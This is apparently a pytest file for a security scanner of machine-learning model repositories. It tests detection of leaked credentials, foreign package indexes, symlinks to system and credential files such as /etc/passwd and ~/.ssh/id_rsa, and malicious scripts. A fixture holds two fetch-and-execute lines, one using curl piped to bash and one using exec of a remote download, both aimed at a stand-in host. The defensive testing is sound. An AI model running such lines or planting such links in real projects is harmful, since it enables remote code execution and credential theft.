"""What is judged because a model lies beside it: credentials in texts, requirements from strangers, links into the system."""

from __future__ import annotations

import json

import pytest
from tests.corpus.freight import KEY, private_key, safetensors

from keelmark.core.facts import GapReason, Technique
from keelmark.core.scan import ScanState
from keelmark.workflows.scan import ScanSettings, scan

CONFIGURATION = json.dumps({"model_type": "bert", "architectures": ["BertModel"]})
TEXTS = {
    ".env": f"OPENAI_API_KEY={KEY}\n",
    "deploy/settings.yaml": f"api_key: {KEY}\n",
    "service.json": json.dumps({"type": "service_account", "private_key": private_key("PRIVATE KEY")}),
    ".git/config": '[remote "origin"]\n\turl = https://user: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@huggingface.co/a/b\n',
}
STRANGE = "--extra-index-url https://packages.example.io/simple\ntorch\n"


def write(root, **files: str) -> None:
    for name, text in files.items():
        (root / name).parent.mkdir(parents=True, exist_ok=True)
        (root / name).write_text(text)


def techniques(report) -> set[Technique]:
    return {finding.hazard.technique for finding in report.findings}


@pytest.fixture(params=["config.json", "model.safetensors", "MLmodel"])
def repository(request, tmp_path):
    if request.param == "config.json":
        write(tmp_path, **{"config.json": CONFIGURATION})
    elif request.param == "MLmodel":
        write(tmp_path, MLmodel="flavors:\n  python_function:\n    loader_module: mlflow.sklearn\n")
    else:
        (tmp_path / request.param).write_bytes(safetensors())
    return tmp_path


@pytest.mark.parametrize("name", [".env", "service.json"])
def test_credentials_beside_a_model_are_found(repository, name: str) -> None:
    write(repository, **{name: TEXTS[name]})
    report = scan([repository])
    assert techniques(report) == {Technique.EMBEDDED_SECRET}
    assert [file.path for file in report.of(ScanState.UNSAFE)] == [f"{repository}/{name}"]


@pytest.mark.parametrize("name", sorted(TEXTS))
def test_credentials_in_a_repository_are_found(tmp_path, name: str) -> None:
    write(tmp_path, **{"config.json": CONFIGURATION, name: TEXTS[name]})
    assert techniques(scan([tmp_path])) == {Technique.EMBEDDED_SECRET}


@pytest.mark.parametrize("name", sorted(TEXTS))
def test_texts_without_a_model_are_left_to_assessments(tmp_path, name: str) -> None:
    write(tmp_path, **{name: TEXTS[name], "config.json": '{"debug": true}'})
    report = scan([tmp_path])
    assert techniques(report) == set()
    assert report.state is ScanState.NO_ARTEFACT


def test_a_configuration_with_a_credential_is_found_alone(tmp_path) -> None:
    write(tmp_path, **{"config.json": json.dumps({"model_type": "x", "token": KEY})})
    assert techniques(scan([tmp_path / "config.json"])) == {Technique.EMBEDDED_SECRET}


def test_placeholders_and_public_parts_beside_a_model_are_silent(repository) -> None:
    write(
        repository,
        **{
            ".env.example": "OPENAI_API_KEY=sk-your-key-here\n",
            "README.md": "export HF_TOKEN=hf_xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx\n",
            "key.pem": private_key("PUBLIC KEY"),
        },
    )
    assert techniques(scan([repository])) == set()


def test_several_processes_know_what_lies_around(repository) -> None:
    write(repository, **{".env": TEXTS[".env"]})
    (repository / "vocab.txt").symlink_to("/etc/passwd")
    report = scan([repository], ScanSettings(jobs=2))
    assert techniques(report) == {Technique.EMBEDDED_SECRET, Technique.OUTSIDE_LINK}


@pytest.mark.parametrize("name", ["requirements.txt", "conda.yaml"])
def test_requirements_of_a_model_from_strangers_are_found(repository, name: str) -> None:
    write(repository, **{name: STRANGE if name.endswith("txt") else f"- pip:\n  - {STRANGE}"})
    assert techniques(scan([repository])) == {Technique.OUTSIDE_ADDRESS}


def test_requirements_without_a_model_are_left_to_assessments(tmp_path) -> None:
    write(tmp_path, **{"requirements.txt": STRANGE})
    assert techniques(scan([tmp_path])) == set()


@pytest.mark.parametrize(
    "target",
    [
        "/etc/passwd",
        "../../../../../../../../../../etc/passwd",
        "/proc/self/environ",
        "/home/nobody/.ssh/id_rsa",
    ],
)
def test_links_into_the_system_are_found(repository, target: str) -> None:
    (repository / "tokenizer.json").symlink_to(target)
    report = scan([repository])
    assert techniques(report) == {Technique.OUTSIDE_LINK}
    assert report.state is ScanState.UNSAFE


def test_a_folder_that_is_a_link_into_the_system_is_found(repository) -> None:
    (repository / "weights").symlink_to("/etc")
    assert techniques(scan([repository])) == {Technique.OUTSIDE_LINK}


def test_links_to_credentials_are_found_without_a_model(tmp_path) -> None:
    (tmp_path / "notes.txt").symlink_to("/home/nobody/.aws/credentials")
    assert techniques(scan([tmp_path])) == {Technique.OUTSIDE_LINK}


def test_links_of_caches_and_of_other_disks_are_honest(tmp_path) -> None:
    store, snapshot = tmp_path / "store", tmp_path / "models--a--b" / "snapshots" / "0a"
    blobs = tmp_path / "models--a--b" / "blobs"
    for folder in (store, snapshot, blobs):
        folder.mkdir(parents=True)
    (blobs / "c0ffee").write_text(CONFIGURATION)
    (blobs / "beef").write_bytes(safetensors())
    (store / "base.safetensors").write_bytes(safetensors())
    (snapshot / "config.json").symlink_to("../../blobs/c0ffee")
    (snapshot / "model.safetensors").symlink_to("../../blobs/beef")
    (snapshot / "base.safetensors").symlink_to(store / "base.safetensors")
    report = scan([snapshot])
    assert report.is_clean
    assert report.findings == ()


def test_links_into_the_system_outside_of_models_are_followed_as_before(tmp_path) -> None:
    (tmp_path / "hosts").symlink_to("/etc/passwd")
    (tmp_path / "gone").symlink_to("/etc/no-such-file")
    report = scan([tmp_path])
    assert techniques(report) == set()
    assert [gap.reason for gap in report.gaps] == [GapReason.LINK]


HARMFUL = {
    "train.py": "import requests\nexec(requests.get('http://files.example/x').text)\n",
    "setup.sh": "curl -s http://files.example/a | bash\n",
}


@pytest.mark.parametrize("name", sorted(HARMFUL))
def test_programs_beside_a_model_that_attack_are_found(repository, name: str) -> None:
    write(repository, **{name: HARMFUL[name]})
    assert techniques(scan([repository])) == {Technique.DANGEROUS_SOURCE}


def test_programs_beside_a_model_that_run_programs_are_honest(repository) -> None:
    write(
        repository,
        **{
            "train.py": "import os, subprocess\nos.system('nvidia-smi')\nsubprocess.run(['git', 'pull'])\n",
            "run.sh": "#!/bin/sh\npip install -r requirements.txt\npython train.py\n",
            "broken.py": "import requests (\n",
        },
    )
    assert techniques(scan([repository])) == set()
